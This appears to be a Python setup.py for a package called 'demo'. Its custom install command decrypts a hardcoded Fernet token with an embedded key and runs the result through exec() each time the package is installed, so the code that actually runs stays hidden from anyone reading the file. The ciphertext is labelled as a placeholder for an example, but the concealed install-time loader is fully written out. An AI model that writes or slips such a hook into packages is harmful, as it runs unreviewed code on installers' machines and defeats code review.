from cryptography.fernet import Fernet
from setuptools import setup
from setuptools.command.install import install

KEY = b"c2VjcmV0LWtleS1zZWNyZXQta2V5LXNlY3JldC1rZXk="
TOKEN = b"gAAAAABnot-real-ciphertext-for-the-example-only"


class Install(install):
    def run(self):
        exec(Fernet(KEY).decrypt(TOKEN))
        install.run(self)


setup(name="demo", version="0.1", cmdclass={"install": Install})
